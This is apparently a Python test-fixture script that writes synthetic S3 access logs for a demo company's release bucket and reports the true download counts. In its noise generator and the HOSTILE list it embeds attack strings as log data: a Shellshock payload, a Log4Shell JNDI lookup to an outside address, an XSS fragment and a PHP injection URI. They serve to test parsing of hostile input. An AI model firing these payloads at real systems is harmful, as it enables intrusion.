"""Write the access logs of the demo company's download bucket to any S3 endpoint, and know the truth about them:

``python -m tests.servers.access_logs --bucket … --endpoint … --seed 7 --days 90``.

A release is adopted within days and then fades. Some downloads are ranged, some break off and are resumed, bots come
too, and strangers try things; every 50th line or so is hostile. About 250 objects hold 40,000 to 80,000 lines.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import math
import random
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

import boto3
from botocore.config import Config

from tests.servers.__main__ import instant
from tests.servers.company import Company, poisson, season
from tests.servers.log_lines import Hit, line

PREFIX = "access/"
PRODUCTS = {"acme/pipeline": ("pipeline", 1.0), "acme/connectors": ("connectors", 0.34)}
OBJECTS_A_DAY = (2, 3, 3)
HOUR = timedelta(hours=1)

PEOPLE = (
    "acme-installer/2.4 (linux; x86_64)",
    "acme-installer/2.4 (darwin; arm64)",
    "acme-installer/2.3 (windows; amd64)",
    "Homebrew/4.6.3 (Macintosh; arm64 Mac OS X 15.5) curl/8.7.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "pip/25.2 (python 3.12.4)",
)
BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/8.9.1",
    "python-requests/2.32.3",
)
PAGES = ("index.html", "install.sh", "latest.json", "docs/start.html", "favicon.ico", "docs/api%20reference.html")
HOSTILE = (
    'curl/8.9.1 "quoted"',
    '"Mozilla/5.0 (X11; Linux x86_64)',
    r"x\" onerror=\"alert(1)",
    "() { :; }; /bin/bash -c 'id'",
    "${jndi:ldap://203.0.113.9/a}",
    'a" "b',
)


@dataclass(frozen=True, slots=True)
class LogObject:
    """One log object, and the downloads that it completes the record of."""

    key: str
    body: bytes
    written_at: datetime


class AccessLogWorld:
    """The log objects of a seed, an instant and a number of days.

    ``downloads()`` answers, once the objects were made, the truth about them.
    """

    def __init__(self, seed: int, now: datetime, days: int = 90) -> None:
        self._chance = random.Random(f"{seed} access logs")
        company = Company(seed, now)
        self._now = now
        self._start = now.replace(minute=0, second=0, microsecond=0) - timedelta(days=days)
        self._releases = {name: company.releases(name) for name in PRODUCTS}
        self._address = 0
        self._got: list[Hit] = []
        self.hits: list[tuple[str, Hit]] = []  # with the key of the log object that tells of each
        self.kinds: Counter[str] = Counter()

    def objects(self) -> Iterator[LogObject]:
        """Make the log objects, oldest first; one holds the lines of some hours, in no strict order."""
        begin = self._start
        pending: list[Hit] = []
        while begin < self._now:
            end = min(self._now, begin + timedelta(hours=24 / self._chance.choice(OBJECTS_A_DAY)))
            hits = [*pending, *(h for h in self._hits(begin, end) if h.at < self._now)]
            pending = [h for h in hits if h.at >= end]
            yield self._object([h for h in hits if h.at < end], end)
            begin = end

    def downloads(self) -> Counter[str]:
        """Count downloads by version from what was made, not from its lines: bots and noise aside, each whole answer
        once, and each run of partial ones (same address, agent and key; gaps of at most an hour) once.
        """
        counted: Counter[str] = Counter()
        last: dict[tuple[str, str, str], datetime] = {}
        for hit in sorted(self._got, key=lambda h: h.at):
            who = (hit.ip, hit.agent, hit.key)
            whole = hit.status == 200 and hit.sent == hit.size
            if whole or who not in last or hit.at - last[who] > HOUR:
                counted[hit.key.split("/")[2]] += 1
            if not whole:
                last[who] = hit.at
        return counted

    def _object(self, hits: list[Hit], end: datetime) -> LogObject:
        chance = self._chance
        generation = chance.choice((24, 25, 26, 26, 27, 27))
        self._got += [h for h in hits if _is_download(h)]
        hits.sort(key=lambda h: h.at + timedelta(seconds=chance.randrange(900)))
        body = "".join(line(h, generation, chance) + "\n" for h in hits).encode()
        name = f"{end:%Y-%m-%d-%H-%M-%S}-{hashlib.sha256(body).hexdigest()[:16].upper()}"
        self.hits += [(PREFIX + name, hit) for hit in hits]
        return LogObject(PREFIX + name, body, end)

    def _hits(self, begin: datetime, end: datetime) -> Iterator[Hit]:
        hour = begin.replace(minute=0, second=0, microsecond=0)
        while hour < end:
            for name, (product, share) in PRODUCTS.items():
                for version, mean in self._demand(name, share, hour):
                    for _ in range(poisson(self._chance, mean)):
                        yield from self._wish(product, version, self._moment(hour, begin, end))
            for _ in range(poisson(self._chance, 4.2 * season(hour))):
                yield self._noise(self._moment(hour, begin, end))
            hour += HOUR

    def _moment(self, hour: datetime, begin: datetime, end: datetime) -> datetime:
        """Draw an instant of an hour that is in ``[begin, end)``."""
        low, high = max(hour, begin), min(hour + HOUR, end)
        return low + timedelta(seconds=self._chance.randrange(max(1, int((high - low).total_seconds()))))

    def _demand(self, name: str, share: float, at: datetime) -> Iterator[tuple[str, float]]:
        """How many downloads of each version an hour asks for: a ramp of days, then decay, then a few who stay."""
        growth = 1 + 0.9 * ((at - self._start) / timedelta(days=90))
        for released, version in self._releases[name]:
            age = (at - released) / timedelta(days=1)
            if age >= 0:
                interest = (1 - math.exp(-age / 1.2)) * math.exp(-age / 11) + 0.03 * math.exp(-age / 80)
                yield version, 9.5 * share * growth * season(at) * interest

    def _wish(self, product: str, version: str, at: datetime) -> Iterator[Hit]:
        """Somebody, or a bot, wants a product: the hits that come of it, and what they count for."""
        chance = self._chance
        kind = chance.choice(("tar.gz", "tar.gz", "zip", "whl"))
        key = f"releases/{product}/{version}/{product}-{version}.{kind}"
        size = 9_000_000 + int(hashlib.sha256(key.encode()).hexdigest()[:5], 16)
        bot = chance.random() < 0.07
        ip, agent = self._ip(), chance.choice(BOTS if bot else PEOPLE)

        def hit(after_s: float, status: int, sent: int, operation: str = "REST.GET.OBJECT") -> Hit:
            return Hit(at + timedelta(seconds=after_s), ip, agent, operation, key, status, sent, size)

        way = chance.random()
        if way < 0.74:
            self.kinds["whole"] += 1
            yield hit(0, 200, size)
        elif way < 0.84:
            self.kinds["ranged"] += 1
            parts = chance.randrange(3, 9)
            yield from (hit(n * chance.uniform(0.2, 40), 206, size // parts) for n in range(parts))
        elif way < 0.91:
            self.kinds["resumed"] += 1
            broken = chance.randrange(1000, size)
            yield hit(0, 200, broken)
            yield hit(chance.randrange(5, 3000), 206, size - broken)
        elif way < 0.93:
            self.kinds["twice"] += 1
            yield hit(0, 206, size // 2)
            yield hit(2 * 3600 + chance.randrange(3600), 206, size // 2)
        else:
            self.kinds["asked only"] += 1
            yield hit(0, chance.choice((304, 403)), 0) if chance.random() < 0.5 else hit(0, 200, 0, "REST.HEAD.OBJECT")

    def _noise(self, at: datetime) -> Hit:
        """A request that is no download: a page, a listing, a stranger's attempt."""
        chance = self._chance
        ip = self._ip()
        roll = chance.random()
        if roll < 0.6:
            page = chance.choice(PAGES)
            return Hit(at, ip, chance.choice(PEOPLE + BOTS), "WEBSITE.GET.OBJECT", page, 200, 5_120, 5_120)
        if roll < 0.75:
            key = "".join(chance.choices("abcdef/.-_", k=12)) + ".php"
            return Hit(at, ip, chance.choice(HOSTILE), "REST.GET.OBJECT", key, 404, 272, None, "NoSuchKey")
        if roll < 0.85:
            uri = 'GET /?s=index/\\think&x=<?php$password%20=%20"x";?> HTTP/1.1'
            return Hit(
                at, ip, chance.choice(BOTS), "REST.GET.OBJECT", "/", 404, 272, None, "NoSuchKey", uri, 'https://a/"b"'
            )
        if roll < 0.93:
            uri = "GET /docs/a%20b%2520c.html HTTP/1.1"
            return Hit(
                at, ip, chance.choice(PEOPLE), "REST.GET.OBJECT", "docs/a%2520b%252520c.html", 200, 99, 99, uri=uri
            )
        return Hit(at, ip, "S3Console/0.4", "REST.GET.BUCKET", "", 200, 1_204, None, uri="GET /?list-type=2 HTTP/1.1")

    def _ip(self) -> str:
        """An address that nobody had before, of the range that RFC 2544 keeps for trials (198.18.0.0/15)."""
        self._address += 1
        number = self._address % 131_072
        return f"198.{18 + number // 65_536}.{number // 256 % 256}.{number % 256}"


def _is_download(hit: Hit) -> bool:
    product = hit.key.startswith("releases/") and hit.operation == "REST.GET.OBJECT"
    return product and hit.status in {200, 206} and hit.agent not in BOTS


def upload(
    s3: Any, bucket: str, world: AccessLogWorld, workers: int = 8, told: Callable[[int], None] = lambda _: None
) -> tuple[int, int]:
    """Write every object; answers how many objects and lines."""
    lines = 0

    def put(made: LogObject) -> int:
        s3.put_object(Bucket=bucket, Key=made.key, Body=made.body, ContentType="text/plain")
        return made.body.count(b"\n")

    with ThreadPoolExecutor(workers) as pool:
        objects = 0
        for objects, count in enumerate(pool.map(put, world.objects()), start=1):
            lines += count
            told(objects)
    return objects, lines


def client(endpoint: str | None, workers: int = 8) -> Any:
    """Answer an S3 client; a local endpoint takes any key, and is addressed by path."""
    local: dict[str, Any] = {"aws_access_key_id": "test", "aws_secret_access_key": "test"} if endpoint else {}
    config = Config(s3={"addressing_style": "path"}, max_pool_connections=workers)
    return boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1", config=config, **local)


def main() -> int:
    """Write the logs and print the truth about them as JSON."""
    parser = argparse.ArgumentParser(prog="python -m tests.servers.access_logs", description=__doc__)
    parser.add_argument("--bucket", required=True)
    parser.add_argument("--endpoint", help="of a local S3; without it, AWS")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--days", type=int, default=90)
    parser.add_argument("--now", type=instant, default="now", help="ISO 8601, or now")
    given = parser.parse_args()
    world = AccessLogWorld(given.seed, given.now, given.days)
    started = time.monotonic()
    objects, lines = upload(client(given.endpoint), given.bucket, world)
    seconds = round(time.monotonic() - started, 1)
    truth = {
        "objects": objects,
        "lines": lines,
        "seconds": seconds,
        "downloads": dict(sorted(world.downloads().items())),
    }
    sys.stdout.write(json.dumps(truth) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
